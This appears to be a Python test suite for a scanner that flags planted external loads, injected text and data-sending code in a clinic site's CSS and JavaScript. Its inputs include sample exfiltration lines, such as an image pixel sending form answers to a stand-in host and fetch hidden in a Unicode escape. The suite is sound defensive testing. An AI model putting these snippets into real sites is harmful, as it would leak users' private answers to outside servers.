"""The site's own CSS and JavaScript, read as a browser reads them: planted loads, text and
sends in forms the cases did not use, and the nearest honest edits."""

from __future__ import annotations

from sitecheck.core.css import tokens
from sitecheck.rules.project import scripts, stylesheets


def css(text: str) -> list[str]:
    return [f"{f.line}: {f.what}" for f in stylesheets.check_text(text, "theme.css")]


def js(text: str) -> list[str]:
    return [f"{f.line}: {f.what}" for f in scripts.check_text(text, "self-check.js")]


def test_the_tokeniser_decodes_escapes_and_drops_comments():
    kinds = [(t.kind, t.value) for t in tokens('/* x */ @\\49 MPORT "a"; b\\61 ck: "\\41 b";')]
    assert kinds[:2] == [("at", "import"), ("string", "a")]
    assert ("ident", "back") in kinds and ("string", "Ab") in kinds


def test_an_import_spelt_with_an_escape_and_a_comment_is_refused():
    found = css('\n@im\\70 ort/**/"//fonts.example.net/a.css" screen;')
    assert found and found[0].startswith("2: @import loads another stylesheet")


def test_a_font_loaded_through_src_in_font_face_is_refused():
    found = css('@font-face { font-family: "Clinic"; src: url( https://cdn.example/f.woff2 ); }')
    assert found == [
        "1: the stylesheet loads 'https://cdn.example/f.woff2' in every patient's browser: "
        "the site's stylesheet is written into each page and may load nothing (from another "
        "website it also tells that website who reads the page)."
    ]


def test_a_picture_in_image_set_with_an_escaped_function_name_is_refused():
    found = css('.x {\n  background: -webkit-image-set("https://img.example/a.avif" 1x);\n}')
    assert found and found[0].startswith("2: the stylesheet loads 'https://img.example/a.avif'")


def test_text_shown_by_content_through_an_escape_or_a_variable_is_refused():
    found = css('.a::after { content: "\\43 all 0800"; }\n:root { --notice: "Closed today" }')
    assert found[0].startswith("1: 'content' shows the text \"Call 0800\"")
    assert found[1].startswith("2: '--notice' shows the text \"Closed today\"")


def test_the_nearest_honest_stylesheet_passes():
    honest = (
        '[data-md-color-scheme="slate"] .a::before { content: " (" attr(data-href) ")"; }\n'
        '.b { font-family: "Atkinson Hyperlegible", sans-serif; counter-increment: step; }\n'
        '.c::before { content: counter(step) ". "; background: url("data:image/svg+xml,x"); }\n'
        '@media print { .d { content: "" } }\n'
    )
    assert css(honest) == []


def test_a_script_posting_answers_with_an_image_pixel_is_refused():
    found = js('var p = new Image();\np.src = "https://px.example/c?a=" + answers;')
    assert any(f.startswith("1: 'Image' reaches a server") for f in found)
    assert any(f.startswith("2: 'src' reaches a server") for f in found)


def test_a_script_hiding_fetch_in_a_unicode_escape_or_a_global_lookup_is_refused():
    assert js("\\u{66}etch('/count', {method: 'POST'})")[0].startswith("1: 'fetch' reaches")
    assert js('self["XMLHttp" + "Request"]')[0].startswith("1: 'self[…]' looks a name up")
    assert js('var k = "sendBeacon";')[0].startswith("1: the string 'sendBeacon' names")


def test_a_script_sending_the_page_elsewhere_or_storing_answers_is_refused():
    assert js("location = '//x.example/?' + a")
    assert js("sessionStorage.setItem('a', 1)")[0].startswith("1: 'sessionStorage' stores")
    assert js("form.action = next;")[0].startswith("1: 'action' reaches")


def test_the_nearest_honest_script_passes():
    honest = (
        "// Count the ticked boxes: fetch nothing (a comment may say so).\n"
        "var url = new URL(link.href, location.href);\n"
        "if (/^https?:$/.test(url.protocol) && url.origin === location.origin) {}\n"
        'result.textContent = "Open the next step: talk to your doctor.";\n'
        'box.setAttribute("data-ready", ""); var half = total / 2 / 1;\n'
    )
    assert js(honest) == []
